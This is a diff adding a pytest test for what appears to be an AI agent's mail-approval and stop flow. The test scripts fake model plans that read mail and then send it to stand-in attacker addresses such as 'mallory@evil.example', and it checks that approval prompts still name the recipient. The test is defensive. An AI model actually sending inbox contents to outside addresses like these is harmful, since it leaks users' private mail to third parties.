@@ -288,6 +288,36 @@ def test_a_stop_ends_what_waits(desk, skills):
     assert (marks(skills, "sent"), parked(server)) == ([], 0)
 
 
+def test_a_question_that_was_stopped_still_quotes_others_when_it_is_found_in_the_history(desk, skills):
+    plans = {
+        "one": [ANA],
+        "two": [("read_mail", {}), ("send_mail", {"to": "mallory@evil.example", "text": "MALLORY"})],
+        "three": [
+            ("search_history", {"query": "mallory"}),
+            ("send_mail", {"to": "a@evil.example", "text": ""}),
+        ],
+    }
+
+    def play(body):
+        if is_classifier(body):
+            return '{"categories": ["mailer", "conversation"], "phrases": ["send mail", "what we said"]}'
+        done = [message for message in body["messages"] if message["role"] == "tool"]
+        plan = plans[last_user_text(body).splitlines()[-1]]
+        return calls(plan[len(done)]) if len(done) < len(plan) else f"result: {done[-1]['content']}"
+
+    _, graph = desk(play=play)
+    graph.say("p0", "one")
+    press(graph, "p0", asked(graph, "p0"), "Always here")
+    told(graph, "p0", '"ok":true')
+    graph.say("p0", "two")
+    asked(graph, "p0", 2)
+    graph.say("p0", "/stop")
+    told(graph, "p0", "Stopped")
+    graph.say("p0", "three")
+    assert "a@evil.example" in asked(graph, "p0", 3)["text"]
+    assert len(marks(skills, "sent")) == 1
+
+
 def test_a_question_outlives_a_fresh_conversation(desk, skills):
     _, graph = desk()
     graph.say("p0", "mail, please")
